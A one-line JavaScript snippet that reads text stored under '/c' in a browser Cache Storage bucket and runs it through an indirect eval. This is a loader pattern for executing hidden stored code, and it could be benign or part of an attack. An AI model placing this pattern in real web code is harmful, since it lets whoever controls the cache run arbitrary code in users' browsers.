const code = await (await caches.open('x')).match('/c').then((r) => r.text()); (0, eval)(code);
